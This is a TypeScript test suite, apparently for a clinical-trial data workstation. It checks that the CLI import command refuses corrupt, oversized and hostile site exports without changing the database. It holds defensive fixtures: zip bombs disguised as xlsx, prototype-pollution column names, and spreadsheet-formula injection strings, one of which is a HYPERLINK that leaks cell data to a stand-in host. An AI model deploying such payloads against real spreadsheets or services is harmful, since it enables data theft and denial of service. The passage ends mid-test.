import { createHash } from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import Database from 'better-sqlite3';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { migrations } from '../../electron/core/db/migrations';
import { generateStudy } from '../../tools/generator/compose/generate-study';
import { loadStudyDefinition } from '../../electron/core/study/load-definition';
import { binaryNoise, cp949, utf8, zipBombXlsx } from '../fixtures/hostile/hostile-files';
import { buildXlsx } from '../fixtures/xlsx-writer';
import { databaseHash } from '../helpers/database-hash';
import { normalisedDatabaseHash } from '../helpers/normalised-database-hash';
import { expectDone, expectRefused, expectWithinMemory } from '../helpers/cli-expect';
import { runCli, type CliRun } from '../helpers/run-cli';
import { dmRow, tempDir } from '../helpers/study-builder';

/**
 * Bad input through the real command line (cli.md "Errors", site-exports.md): every error case of
 * the specs and every hostile file a data manager may be sent, run as `node bin/cdm.js import DB
 * PATH` in a child process on a study database that already holds one good import. Each is refused
 * with exit 1 (2 for wrong usage) and ONE plain `error:` line on stderr naming the file (sheet, line,
 * column) at fault, no stack trace, no hang, under 1 GiB of memory, and the database unchanged; or,
 * where the spec says the data load as written, exit 0 with a warning and the text kept as text.
 */
const CASE = { timeout: 120_000 };
const CHILD_TIMEOUT = 30_000;

let root: string;
/** A study database holding one good import: generated site S01, round 1 (a CSV folder). */
let baseDb: string;
let baseHash: string;
/** Generated exports: S01 as a CSV folder, S02 as a workbook. */
let s01Folder: string;
let s02Workbook: string;
let s01Latest: string;
let s01Subject: string;
let cases = 0;

beforeAll(async () => {
  root = tempDir('cdm-cli-bad-input-');
  const manifest = await generateStudy({
    outDir: path.join(root, 'gen'),
    seed: 5,
    subjects: 40,
    sites: 2,
    rounds: 1,
    definition: loadStudyDefinition(),
  });
  const round = manifest.rounds[0]!;
  s01Folder = path.join(root, 'gen', round.exports.find((e) => e.siteId === 'S01')!.path);
  s02Workbook = path.join(root, 'gen', round.exports.find((e) => e.siteId === 'S02')!.path);
  expect(fs.statSync(s01Folder).isDirectory()).toBe(true);
  expect(s02Workbook).toMatch(/\.xlsx$/);
  s01Latest = round.exportDate;

  baseDb = path.join(root, 'base.db');
  expectDone(await runCli(['init', baseDb, '--user', 'dm']));
  expectDone(await runCli(['import', baseDb, s01Folder, '--user', 'dm']));
  baseHash = databaseHash(baseDb);
  const db = new Database(baseDb, { readonly: true });
  s01Subject = (
    db.prepare("SELECT subject_id FROM form_dm WHERE site_id = 'S01' ORDER BY subject_id LIMIT 1").get() as {
      subject_id: string;
    }
  ).subject_id;
  db.close();
}, 120_000);

afterAll(() => {
  if (root) fs.rmSync(root, { recursive: true, force: true });
});

/** A fresh folder for one case, and a copy of the study database with its one good import. */
function newCase(files: Record<string, Uint8Array | string> = {}): { dir: string; db: string } {
  const dir = path.join(root, `case-${++cases}`);
  fs.mkdirSync(dir, { recursive: true });
  const db = path.join(dir, 'study.db');
  fs.copyFileSync(baseDb, db);
  // Dated as a site's export folder is (the export date comes from the names).
  const data = path.join(dir, 'export_20300101');
  fs.mkdirSync(data);
  for (const [name, content] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(data, name)), { recursive: true });
    fs.writeFileSync(path.join(data, name), content);
  }
  return { dir: data, db };
}

function expectUnchanged(db: string): void {
  expect(databaseHash(db), `${db} changed`).toBe(baseHash);
}

async function importRefused(
  db: string,
  paths: string[],
  message: string | RegExp,
  extra: string[] = [],
  code = 1,
): Promise<CliRun> {
  const run = await runCli(['import', db, ...paths, ...extra], { timeoutMs: CHILD_TIMEOUT });
  expectRefused(run, message, code);
  expectUnchanged(db);
  return run;
}

const csv = (rows: string[][], eol = '\r\n') => rows.map((r) => r.map(csvField).join(',')).join(eol) + eol;
const csvField = (v: string) => (/[",\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v);
const DM_HEADER = Object.keys(dmRow('x', 'x'));
const dmCsv = (rows: Record<string, string>[]) =>
  csv([DM_HEADER, ...rows.map((r) => DM_HEADER.map((h) => r[h] ?? ''))]);
const AE_HEADER = ['SUBJID', 'AESEQ', 'AETERM', 'AEDECOD', 'AESTDAT', 'AEENDAT', 'AETOXGR', 'AESER'];
const aeRow = (
  subject: string,
  seq: number,
  overrides: Record<string, string> = {},
): Record<string, string> => ({
  SUBJID: subject,
  AESEQ: String(seq),
  AETERM: '오심',
  AEDECOD: 'Nausea',
  AESTDAT: '2018-02-01',
  AEENDAT: '2018-02-05',
  AETOXGR: '1',
  AESER: 'N',
  ...overrides,
});
const aeCsv = (rows: Record<string, string>[], header = AE_HEADER) =>
  csv([header, ...rows.map((r) => header.map((h) => r[h] ?? ''))]);
const sha256 = (file: string) => createHash('sha256').update(fs.readFileSync(file)).digest('hex');

describe.concurrent('import refuses what it cannot load, changing nothing', () => {
  describe('errors of site-exports.md', () => {
    it('a missing required column names the file and the column', CASE, async () => {
      const { dir, db } = newCase({
        'S07_DM_20300101.csv': csv([
          DM_HEADER.filter((h) => h !== 'AGE'),
          DM_HEADER.filter((h) => h !== 'AGE').map((h) => dmRow('S07-001', 'S07')[h]!),
        ]),
      });
      await importRefused(
        db,
        [dir],
        `${path.join(dir, 'S07_DM_20300101.csv')}: required column AGE missing (form DM)`,
      );
    });

    it('a file whose form cannot be told', CASE, async () => {
      const { dir, db } = newCase({
        'DM.csv': dmCsv([dmRow('S07-001', 'S07')]),
        'patients_list.csv': dmCsv([dmRow('S07-001', 'S07')]),
      });
      await importRefused(
        db,
        [dir],
        `${path.join(dir, 'patients_list.csv')}: the file name names no form (DM, EX, AE, RS, LB, DS, CM); rename it or give its form with --form`,
      );
    });

    it('a name with two form tokens', CASE, async () => {
      const { dir, db } = newCase({ 'S07_DM_AE.csv': dmCsv([dmRow('S07-001', 'S07')]) });
      await importRefused(
        db,
        [dir],
        `${path.join(dir, 'S07_DM_AE.csv')}: the name names 2 forms (DM, AE); rename the file so that it names one`,
      );
    });

    it('two files for one form', CASE, async () => {
      const { dir, db } = newCase({
        'DM.csv': dmCsv([dmRow('S07-001', 'S07')]),
        'AE.csv': aeCsv([aeRow('S07-001', 1)]),
        'S07_ae_20300101.csv': aeCsv([aeRow('S07-001', 1)]),
      });
      await importRefused(
        db,
        [dir],
        `${path.join(dir, 'S07_ae_20300101.csv')}: a second table for form AE, after ${path.join(dir, 'AE.csv')}; keep one`,
      );
    });

    it('an export without DM for a site never seen', CASE, async () => {
      const { dir, db } = newCase({ 'AE.csv': aeCsv([aeRow('S09-001', 1)]) });
      await importRefused(
        db,
        [dir],
        `${dir}: site S09 was never imported and this export has no DM form: its first export must include DM`,
        ['--site', 'S09'],
      );
      await importRefused(
        db,
        [dir],
        `${dir}: cannot tell the site of this export: it has no DM form; give it with --site`,
      );
    });

    it('DM rows naming two sites', CASE, async () => {
      const { dir, db } = newCase({
        'DM.csv': dmCsv([dmRow('S07-001', 'S07'), dmRow('S07-002', 'S07'), dmRow('S08-001', 'S08')]),
      });
      await importRefused(
        db,
        [dir],
        `${path.join(dir, 'DM.csv')}, line 4: SITEID S08 is not the site of this export: its rows name another site (S07)`,
      );
    });

    it('--site contradicting SITEID', CASE, async () => {
      const { dir, db } = newCase({ 'DM.csv': dmCsv([dmRow('S07-001', 'S07')]) });
      await importRefused(
        db,
        [dir],
        `${path.join(dir, 'DM.csv')}, line 2: SITEID S07: this is an export of site S07, not of site S08, the site given with --site`,
        ['--site', 'S08'],
      );
    });

    it('a subject enrolled at another site', CASE, async () => {
      const { dir, db } = newCase({ 'DM.csv': dmCsv([dmRow('S07-001', 'S07'), dmRow(s01Subject, 'S07')]) });
      await importRefused(
        db,
        [dir],
        `${path.join(dir, 'DM.csv')}, line 3: subject ${s01Subject} is enrolled at site S01, not at S07, the site of this export`,
      );
    });

    it("an export older than the site's latest", CASE, async () => {
      const { dir, db } = newCase();
      fs.cpSync(s01Folder, path.join(dir, 'S01'), { recursive: true });
      await importRefused(
        db,
        [path.join(dir, 'S01')],
        `${path.join(dir, 'S01')}: site S01 already has an export of ${s01Latest}; this export (2018-12-31, from the user) is older and would undo newer data`,
        ['--export-date', '2018-12-31', '--confirm-export-date'],
      );
    });
  });

  describe('hostile files', () => {
    it('a truncated xlsx', CASE, async () => {
      const { dir, db } = newCase({
        'S02_20300101.xlsx': fs
          .readFileSync(s02Workbook)
          .subarray(0, Math.floor(fs.statSync(s02Workbook).size / 2)),
      });
      const file = path.join(dir, 'S02_20300101.xlsx');
      await importRefused(db, [file], `${file}: not a readable xlsx workbook (truncated or corrupt)`);
    });

    it('a corrupt xlsx (random bytes)', CASE, async () => {
      const { dir, db } = newCase({ 'S02_20300101.xlsx': binaryNoise(300_000, 99) });
      const file = path.join(dir, 'S02_20300101.xlsx');
      await importRefused(db, [file], `${file}: not a readable xlsx workbook (not a zip archive)`);
    });

    it('random bytes behind a zip signature', CASE, async () => {
      const noise = binaryNoise(300_000, 7);
      noise.set([0x50, 0x4b, 0x03, 0x04]);
      const { dir, db } = newCase({ 'S02_20300101.xlsx': noise });
      const file = path.join(dir, 'S02_20300101.xlsx');
      await importRefused(db, [file], `${file}: not a readable xlsx workbook (truncated or corrupt)`);
    });

    it('a zip bomb disguised as xlsx, honest about its size', CASE, async () => {
      const bomb = zipBombXlsx({ gigabytes: 3, lieAboutSize: false });
      expect(bomb.length).toBeLessThan(5_000_000);
      const { dir, db } = newCase({ 'S02_20300101.xlsx': bomb });
      const file = path.join(dir, 'S02_20300101.xlsx');
      await importRefused(
        db,
        [dir],
        `${file}: refused: it would unzip to 3,221 MB, more than 300 MB (a zip bomb?)`,
      );
    });

    it('a zip bomb disguised as xlsx, lying about its size', CASE, async () => {
      const bomb = zipBombXlsx({ gigabytes: 3, lieAboutSize: true });
      const { dir, db } = newCase({ 'S02_20300101.xlsx': bomb });
      const file = path.join(dir, 'S02_20300101.xlsx');
      await importRefused(
        db,
        [file],
        `${file}: refused: part xl/worksheets/sheet1.xml expands more than 500 times (a zip bomb?)`,
      );
    });

    it('binary noise named .csv', CASE, async () => {
      const { dir, db } = newCase({ 'DM.csv': binaryNoise(200_000) });
      await importRefused(
        db,
        [dir],
        new RegExp(
          `^error: ${escape(path.join(dir, 'DM.csv'))}: not a text file \\(\\d+% of its bytes are control codes or neither UTF-8 nor CP949\\)$`,
        ),
      );
    });

    it('a PDF named .csv', CASE, async () => {
      const { dir, db } = newCase({
        'DM.csv': '%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n',
      });
      await importRefused(db, [dir], `${path.join(dir, 'DM.csv')}: a PDF document, not CSV text`);
    });

    it('a 5 MB cell', CASE, async () => {
      const { dir, db } = newCase({
        'DM.csv': dmCsv([dmRow('S07-001', 'S07')]),
        'AE.csv': aeCsv([aeRow('S07-001', 1), aeRow('S07-001', 2, { AETERM: '가'.repeat(5_000_000) })]),
      });
      await importRefused(
        db,
        [dir],
        `${path.join(dir, 'AE.csv')}: line 3, column 3 (AETERM): a cell of 5,000,000 characters; the limit is 32,767`,
      );
    });

    it('10,000 columns, in CSV and in xlsx', CASE, async () => {
      const header = [...DM_HEADER, ...Array.from({ length: 10_000 - DM_HEADER.length }, (_, i) => `X${i}`)];
      const row = header.map((h) => dmRow('S07-001', 'S07')[h] ?? '1');
      const { dir, db } = newCase({
        'DM.csv': csv([header, row]),
        'S07_20300101.xlsx': buildXlsx([{ name: 'DM', rows: [header, row] }]),
      });
      await importRefused(
        db,
        [path.join(dir, 'DM.csv')],
        `${path.join(dir, 'DM.csv')}: line 1: 10,000 columns; at most 1,000 are read`,
      );
      await importRefused(
        db,
        [path.join(dir, 'S07_20300101.xlsx')],
        `${path.join(dir, 'S07_20300101.xlsx')}: sheet DM: row 1: the header reaches column NTP (10,000 columns); at most 1,000 are read`,
      );
    });

    it('NUL bytes', CASE, async () => {
      const text = dmCsv([dmRow('S07-001', 'S07'), dmRow('S07-002', 'S07')]).replace(
        'S07-002',
        'S07\u0000-002',
      );
      const { dir, db } = newCase({ 'DM.csv': utf8(text) });
      await importRefused(
        db,
        [dir],
        `${path.join(dir, 'DM.csv')}: line 3: NUL bytes: not a text file (or UTF-16 text without a byte order mark)`,
      );
    });

    it('mixed UTF-8 and CP949 lines in one file', CASE, async () => {
      const { dir, db } = newCase({
        'DM.csv': dmCsv([dmRow('S07-001', 'S07')]),
        'AE.csv': new Uint8Array([
          ...utf8(aeCsv([aeRow('S07-001', 1, { AETERM: '오심' })])),
          ...cp949(csv([['S07-001', '2', '구토', 'Vomiting', '2018-03-01', '', '1', 'N']])),
        ]),
      });
      await importRefused(
        db,
        [dir],
        `${path.join(dir, 'AE.csv')}: line 3: CP949 text, but line 2 is UTF-8 (mixed encodings); save the file again in one encoding`,
      );
    });

    it('an unbalanced quote', CASE, async () => {
      const { dir, db } = newCase({
        'DM.csv': dmCsv([dmRow('S07-001', 'S07')]),
        'AE.csv': `${aeCsv([aeRow('S07-001', 1)])}S07-001,2,"never closed,Nausea,2018-03-01,,1,N\r\nS07-001,3,x,Nausea,2018-03-02,,1,N\r\n`,
      });
      await importRefused(db, [dir], `${path.join(dir, 'AE.csv')}: line 3: a quoted field is never closed`);
    });

    it('an empty folder', CASE, async () => {
      const { dir, db } = newCase();
      await importRefused(db, [dir], `${dir}: no data files (.csv, .tsv, .txt, .xlsx, .xlsm) found`);
    });

    it('a path that does not exist', CASE, async () => {
      const { dir, db } = newCase();
      await importRefused(
        db,
        [path.join(dir, 'S07_20300101')],
        `${path.join(dir, 'S07_20300101')}: no such file or folder`,
      );
    });
  });

  describe('the study database itself', () => {
    it('a database that does not exist is not created', CASE, async () => {
      const { dir } = newCase({ 'DM.csv': dmCsv([dmRow('S07-001', 'S07')]) });
      const db = path.join(path.dirname(dir), 'missing.db');
      const run = await runCli(['import', db, dir], { timeoutMs: CHILD_TIMEOUT });
      expectRefused(run, `${db}: no study database here; create one with init`);
      expect(fs.existsSync(db)).toBe(false);
    });

    it(
      'a file that is not a study database: text, an empty file, an SQLite database of another program, a folder',
      CASE,
      async () => {
        const { dir } = newCase({ 'DM.csv': dmCsv([dmRow('S07-001', 'S07')]) });
        const text = path.join(path.dirname(dir), 'notes.db');
        fs.writeFileSync(text, 'SUBJID,AGE\nS07-001,65\n'.repeat(200));
        const other = path.join(path.dirname(dir), 'other.db');
        const sqlite = new Database(other);
        sqlite.exec("CREATE TABLE t (x); INSERT INTO t VALUES ('hello');");
        sqlite.close();
        const empty = path.join(path.dirname(dir), 'empty.db');
        fs.writeFileSync(empty, '');
        for (const [file, message] of [
          [text, `${text}: not a study database of this workstation (file is not a database)`],
          [empty, `${empty}: not a study database of this workstation`],
          [other, `${other}: not a study database of this workstation`],
        ] as const) {
          const before = sha256(file);
          const run = await runCli(['import', file, dir], { timeoutMs: CHILD_TIMEOUT });
          expectRefused(run, message);
          expect(sha256(file), `${file} changed`).toBe(before);
          expect(fs.readdirSync(path.dirname(file)).filter((f) => f.startsWith(path.basename(file)))).toEqual(
            [path.basename(file)],
          );
        }
        const folder = path.dirname(dir);
        expectRefused(
          await runCli(['import', folder, dir], { timeoutMs: CHILD_TIMEOUT }),
          `${folder}: not a study database of this workstation (unable to open database file)`,
        );
      },
    );

    it('a study database of a newer schema version names the version', CASE, async () => {
      const { dir, db } = newCase({ 'DM.csv': dmCsv([dmRow('S07-001', 'S07')]) });
      const newer = migrations.length + 3;
      const handle = new Database(db);
      handle.pragma(`user_version = ${newer}`);
      handle.close();
      const before = databaseHash(db);
      const run = await runCli(['import', db, dir], { timeoutMs: CHILD_TIMEOUT });
      expectRefused(
        run,
        `${db}: this study database has schema version ${newer}, written by a newer version of the workstation (this one knows up to ${migrations.length}); update the workstation`,
      );
      expect(databaseHash(db)).toBe(before);
      const after = new Database(db, { readonly: true });
      expect(after.pragma('user_version', { simple: true })).toBe(newer);
      after.close();
    });

    it('a locked study', CASE, async () => {
      const { dir, db } = newCase({ 'DM.csv': dmCsv([dmRow('S07-001', 'S07')]) });
      expectDone(
        await runCli([
          'lock',
          db,
          '--cut',
          'interim',
          '--reason',
          'interim analysis',
          '--snapshot',
          path.join(path.dirname(dir), 'snapshot'),
          '--force',
        ]),
      );
      const before = databaseHash(db);
      const run = await runCli(['import', db, dir], { timeoutMs: CHILD_TIMEOUT });
      expectRefused(
        run,
        /^error: the study is locked for data cut "interim" \(by .+, \d{4}-\d{2}-\d{2}\): nothing can change until it is unlocked$/,
      );
      expect(databaseHash(db)).toBe(before);
    });
  });

  describe('wrong usage: exit 2', () => {
    const usage = async (args: (db: string, dir: string) => string[], message: string | RegExp) => {
      const { dir, db } = newCase({ 'DM.csv': dmCsv([dmRow('S07-001', 'S07')]) });
      const run = await runCli(args(db, dir), { timeoutMs: CHILD_TIMEOUT });
      expectRefused(run, message, 2);
      expectUnchanged(db);
    };

    it('a missing argument', CASE, async () => {
      await usage(() => ['import'], "missing required argument 'DB'");
      await usage((db) => ['import', db], 'nothing to import: give PATH... or --batch DIR');
    });

    it('an unknown option', CASE, async () => {
      await usage((db, dir) => ['import', db, dir, '--sites', 'S07'], "unknown option '--sites'");
    });

    it('a bad --export-date', CASE, async () => {
      await usage(
        (db, dir) => ['import', db, dir, '--export-date', '2019-02-30'],
        "option '--export-date <YYYY-MM-DD>' argument '2019-02-30' is invalid. 2019-02-30 is not a date (YYYY-MM-DD)",
      );
      await usage(
        (db, dir) => ['import', db, dir, '--export-date', '15/01/2019'],
        "option '--export-date <YYYY-MM-DD>' argument '15/01/2019' is invalid. 15/01/2019 is not a date (YYYY-MM-DD)",
      );
    });

    it('--batch with paths, and --batch with --site', CASE, async () => {
      await usage(
        (db, dir) => ['import', db, dir, '--batch', dir],
        'give either PATH... or --batch DIR, not both',
      );
      await usage(
        (db, dir) => ['import', db, '--batch', dir, '--site', 'S07'],
        '--site, --export-date and --form apply to one export, not to --batch',
      );
    });
  });
});

interface Report {
  siteId: string;
  forms: Record<string, { rows: number; new: number; changed: number; deleted: number }>;
  files: { path: string; sheet: string | null; form: string; encoding: string | null; rows: number }[];
  unknownColumns: { form: string; column: string; file: string }[];
  warnings: {
    code: string;
    file: string | null;
    sheet: string | null;
    form: string | null;
    line: number | null;
    column: string | null;
    message: string;
  }[];
}

/** Runs an import that must succeed: exit 0, nothing on stderr, the JSON report. */
async function importLoads(db: string, paths: string[], extra: string[] = []): Promise<Report> {
  const run = await runCli(['import', db, ...paths, '--json', ...extra], { timeoutMs: CHILD_TIMEOUT });
  expect(run.timedOut).toBe(false);
  expect(run.code, run.stderr).toBe(0);
  expect(run.stderr).toBe('');
  expectWithinMemory(run);
  return JSON.parse(run.stdout) as Report;
}

async function dataOf(db: string, form: string, raw: boolean): Promise<Record<string, unknown>[]> {
  const run = await runCli(['data', db, '--form', form, '--site', 'S07', ...(raw ? ['--raw'] : [])], {
    timeoutMs: CHILD_TIMEOUT,
  });
  expect(run.code, run.stderr).toBe(0);
  return JSON.parse(run.stdout) as Record<string, unknown>[];
}

/** What spreadsheets run as formulas, as a site may have typed it. */
const FORMULA_TEXT = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', '+1', '-2+3', '@SUM(A1)'];

describe.concurrent('import loads odd but valid input as written, with a warning', () => {
  it('formula text in CSV cells is kept as text, never evaluated', CASE, async () => {
    const { dir, db } = newCase({
      'DM.csv': dmCsv([dmRow('S07-001', 'S07')]),
      'AE.csv': aeCsv(
        FORMULA_TEXT.map((text, i) => aeRow('S07-001', i + 1, { AETERM: text, AEDECOD: text })),
      ),
    });
    const report = await importLoads(db, [dir]);
    expect(report.forms.AE).toEqual({ rows: 4, new: 4, changed: 0, deleted: 0 });
    const file = path.join(dir, 'AE.csv');
    expect(report.warnings.filter((w) => w.file === file).map((w) => w.message)).toEqual([
      // +1 is a plain number to a spreadsheet too; the other three cells of each column are not.
      '6 cells start with =, +, - or @ like a spreadsheet formula (first at line 2, column 3 (AETERM)); kept as text, never evaluated',
    ]);
    expect((await dataOf(db, 'AE', true)).map((r) => [r.AETERM, r.AEDECOD])).toEqual(
      FORMULA_TEXT.map((t) => [t, t]),
    );
    expect((await dataOf(db, 'AE', false)).map((r) => [r.AETERM, r.AEDECOD])).toEqual(
      FORMULA_TEXT.map((t) => [t, t]),
    );
  });

  it('formula text in xlsx cells is kept as text; a real formula gives its cached value', CASE, async () => {
    const workbook = buildXlsx([
      { name: 'DM', rows: [DM_HEADER, DM_HEADER.map((h) => dmRow('S07-001', 'S07')[h]!)] },
      {
        name: 'AE',
        rows: [
          AE_HEADER,
          ...FORMULA_TEXT.map((text, i) =>
            AE_HEADER.map((h) => (h === 'AETERM' ? text : aeRow('S07-001', i + 1)[h]!)),
          ),
          AE_HEADER.map((h) =>
            h === 'AETERM'
              ? { formula: 'HYPERLINK("http://evil.example","click")', cached: 'click' }
              : aeRow('S07-001', 5)[h]!,
          ),
        ],
      },
    ]);
    const { dir, db } = newCase({ 'S07_20300101.xlsx': workbook });
    const file = path.join(dir, 'S07_20300101.xlsx');
    const report = await importLoads(db, [file]);
    expect(report.forms.AE).toEqual({ rows: 5, new: 5, changed: 0, deleted: 0 });
    expect(report.warnings.filter((w) => w.sheet === 'AE').map((w) => [w.file, w.message])).toEqual([
      [
        file,
        '1 formula cell (first C6) read as the values Excel last calculated; formulas are never evaluated',
      ],
      [
        file,
        '3 text cells start with =, +, - or @ like a spreadsheet formula (first at row 2, column 3 (AETERM)); kept as text, never evaluated',
      ],
    ]);
    expect((await dataOf(db, 'AE', true)).map((r) => r.AETERM)).toEqual([...FORMULA_TEXT, 'click']);
    expect((await dataOf(db, 'AE', false)).map((r) => r.AETERM)).toEqual([...FORMULA_TEXT, 'click']);
  });

  it(
    'headers named __proto__, constructor and hasOwnProperty are unknown columns, reported once, shown by data --raw',
    CASE,
    async () => {
      const odd = ['__proto__', 'constructor', 'hasOwnProperty', 'CRF_VERSION'];
      const header = [...DM_HEADER, ...odd];
      const rows = ['S07-001', 'S07-002'].map((s) => [
        ...DM_HEADER.map((h) => dmRow(s, 'S07')[h]!),
        '{"polluted":true}',
        'x',
        'y',
        'v2.1',
      ]);
      const aeWithProto = csv([
        [...AE_HEADER, '__proto__'],
        [...AE_HEADER.map((h) => aeRow('S07-001', 1)[h]!), 'z'],
      ]);
      const { dir, db } = newCase({ 'DM.csv': csv([header, ...rows]), 'S07_AE.csv': aeWithProto });
      const report = await importLoads(db, [dir]);
      expect(report.forms.DM).toEqual({ rows: 2, new: 2, changed: 0, deleted: 0 });
      const dmFile = path.join(dir, 'DM.csv');
      expect(report.unknownColumns).toEqual([
        ...odd.map((column) => ({ form: 'DM', column, file: dmFile })),
        { form: 'AE', column: '__proto__', file: path.join(dir, 'S07_AE.csv') },
      ]);
      const unknown = report.warnings.filter((w) => w.code === 'UNKNOWN_COLUMN');
      expect(unknown.map((w) => `${w.form}.${w.column}`)).toEqual([
        ...odd.map((c) => `DM.${c}`),
        'AE.__proto__',
      ]);
      const raw = await dataOf(db, 'DM', true);
      expect(raw).toHaveLength(2);
      for (const record of raw) {
        expect(Object.getOwnPropertyDescriptor(record, '__proto__')?.value).toBe('{"polluted":true}');
        expect(Object.getOwnPropertyDescriptor(record, 'constructor')?.value).toBe('x');
        expect(Object.getOwnPropertyDescriptor(record, 'hasOwnProperty')?.value).toBe('y');
        expect(record.CRF_VERSION).toBe('v2.1');
      }
      expect(
        (await dataOf(db, 'AE', true)).map((r) => Object.getOwnPropertyDescriptor(r, '__proto__')?.value),
      ).toEqual(['z']);
    },
  );

  it('impossible dates are kept raw and reported', CASE, async () => {
    const { dir, db } = newCase({
      'DM.csv': dmCsv([dmRow('S07-001', 'S07', { RFICDAT: '2018-13-01' })]),
      'AE.csv': aeCsv([
        aeRow('S07-001', 1, { AESTDAT: '2019-02-30' }),
        aeRow('S07-001', 2, { AESTDAT: '2019-02-28', AEENDAT: 'after discharge' }),
      ]),
    });
    const report = await importLoads(db, [dir]);
    expect(report.forms.AE).toEqual({ rows: 2, new: 2, changed: 0, deleted: 0 });
    expect(report.warnings.map((w) => [w.file, w.line, w.column, w.message])).toEqual([
      [
        path.join(dir, 'AE.csv'),
        2,
        'AESTDAT',
        'AESTDAT "2019-02-30" is not a valid date (2019-02 has no day 30)',
      ],
      [path.join(dir, 'AE.csv'), 3, 'AEENDAT', 'AEENDAT "after discharge" is not a valid date (not a date)'],
      [
        path.join(dir, 'DM.csv'),
        2,
        'RFICDAT',
        'RFICDAT "2018-13-01" is not a valid date (month 13 does not exist)',
      ],
    ]);
    expect((await dataOf(db, 'AE', true)).map((r) => [r.AESTDAT, r.AEENDAT])).toEqual([
      ['2019-02-30', '2018-02-05'],
      ['2019-02-28', 'after discharge'],
    ]);
    expect((await dataOf(db, 'AE', false)).map((r) => [r.AESTDAT, r.AEENDAT])).toEqual([
      [null, '2018-02-05'],
      ['2019-02-28', null],
    ]);
    expect((await dataOf(db, 'DM', true)).map((r) => r.RFICDAT)).toEqual(['2018-13-01']);
  });

  it('UTF-16LE "Unicode Text" from Excel', CASE, async () => {
    const tsv = (rows: string[][]) =>
      Buffer.from(`\ufeff${rows.map((r) => r.join('\t')).join('\r\n')}\r\n`, 'utf16le');
    const { dir, db } = newCase({
      'DM.txt': tsv([DM_HEADER, DM_HEADER.map((h) => dmRow('S07-001', 'S07')[h]!)]),
      'AE.txt': tsv([
        AE_HEADER,
        AE_HEADER.map((h) => aeRow('S07-001', 1, { AETERM: '호중구 감소증' })[h]!),
        AE_HEADER.map((h) => aeRow('S07-001', 2, { AETERM: '말초 신경병증' })[h]!),
      ]),
    });
    const report = await importLoads(db, [dir]);
    expect(report.files.map((f) => [f.form, f.encoding, f.rows])).toEqual([
      ['AE', 'utf-16le', 2],
      ['DM', 'utf-16le', 1],
    ]);
    expect((await dataOf(db, 'AE', false)).map((r) => r.AETERM)).toEqual(['호중구 감소증', '말초 신경병증']);
  });

  it('a symbolic link loop in a folder: the real files are read once, the links reported', CASE, async () => {
    const { dir, db } = newCase({
      'DM.csv': dmCsv([dmRow('S07-001', 'S07')]),
      'sub/AE.csv': aeCsv([aeRow('S07-001', 1)]),
    });
    fs.symlinkSync(dir, path.join(dir, 'sub', 'back'));
    fs.symlinkSync(path.join(dir, 'sub', 'loop'), path.join(dir, 'sub', 'loop'));
    fs.symlinkSync(path.join(dir, 'DM.csv'), path.join(dir, 'sub', 'DM-again.csv'));
    const report = await importLoads(db, [dir]);
    expect(report.forms).toEqual({
      DM: { rows: 1, new: 1, changed: 0, deleted: 0 },
      AE: { rows: 1, new: 1, changed: 0, deleted: 0 },
    });
    expect(report.warnings.filter((w) => w.code === 'FILE').map((w) => [w.file, w.message])).toEqual([
      [path.join(dir, 'sub', 'DM-again.csv'), `the same file as ${path.join(dir, 'DM.csv')}; read once`],
      [path.join(dir, 'sub', 'back'), 'a folder already read by another path (a symbolic link); skipped'],
      [path.join(dir, 'sub', 'loop'), 'a symbolic link that leads nowhere (broken, or a loop); skipped'],
    ]);
  });
});

describe.concurrent('import --batch: a failed export is reported, the others still load', () => {
  it('a batch with a good workbook, a truncated one and a zip bomb', CASE, async () => {
    const { dir, db } = newCase({
      'S03_20300101.xlsx': fs.readFileSync(s02Workbook).subarray(0, 4000),
      'S04_20300101.xlsx': zipBombXlsx({ gigabytes: 2, lieAboutSize: true }),
    });
    fs.copyFileSync(s02Workbook, path.join(dir, path.basename(s02Workbook)));
    const run = await runCli(['import', db, '--batch', dir, '--json', '--user', 'dm'], {
      timeoutMs: CHILD_TIMEOUT,
    });
    const truncated = path.join(dir, 'S03_20300101.xlsx');
    const bomb = path.join(dir, 'S04_20300101.xlsx');
    expect(run.timedOut).toBe(false);
    expect(run.code).toBe(1);
    expect(run.stderr).toBe(`error: 2 of 3 site exports failed: ${truncated}, ${bomb}\n`);
    expectWithinMemory(run);
    const items = JSON.parse(run.stdout) as (
      { path: string; error: string } | { path: string; siteId: string }
    )[];
    expect(items).toEqual([
      expect.objectContaining({ path: path.join(dir, path.basename(s02Workbook)), siteId: 'S02' }),
      { path: truncated, error: `${truncated}: not a readable xlsx workbook (truncated or corrupt)` },
      {
        path: bomb,
        error: `${bomb}: refused: part xl/worksheets/sheet1.xml expands more than 500 times (a zip bomb?)`,
      },
    ]);
    // Exactly what importing the good workbook alone does (times of import aside).
    const alone = path.join(path.dirname(dir), 'alone.db');
    fs.copyFileSync(baseDb, alone);
    expectDone(await runCli(['import', alone, path.join(dir, path.basename(s02Workbook)), '--user', 'dm']));
    expect(normalisedDatabaseHash(db)).toBe(normalisedDatabaseHash(alone));
  });

  it('a batch where every export fails changes nothing', CASE, async () => {
    const { dir, db } = newCase({
      'S03_20300101.xlsx': binaryNoise(10_000),
      'S04_20300101/DM.csv': binaryNoise(10_000, 3),
    });
    const run = await runCli(['import', db, '--batch', dir], { timeoutMs: CHILD_TIMEOUT });
    expect(run.code).toBe(1);
    expect(run.stderr).toBe(
      `error: 2 of 2 site exports failed: ${path.join(dir, 'S03_20300101.xlsx')}, ${path.join(dir, 'S04_20300101')}\n`,
    );
    expect(run.stdout).toContain(
      `error: ${path.join(dir, 'S03_20300101.xlsx')}: not a readable xlsx workbook (not a zip archive)`,
    );
    expectUnchanged(db);
  });

  it('a batch folder that does not exist, or holds no export', CASE, async () => {
    const { dir, db } = newCase({ 'notes.pdf': '%PDF-1.4\n' });
    await importRefused(db, [], `${path.join(dir, 'nothing')}: not a folder`, [
      '--batch',
      path.join(dir, 'nothing'),
    ]);
    await importRefused(db, [], `${dir}: no site exports (folders or .xlsx workbooks) in it`, [
      '--batch',
      dir,
    ]);
  });

  it('a batch into a database that does not exist', CASE, async () => {
    const { dir } = newCase();
    const db = path.join(path.dirname(dir), 'missing.db');
    expectRefused(
      await runCli(['import', db, '--batch', dir], { timeoutMs: CHILD_TIMEOUT }),
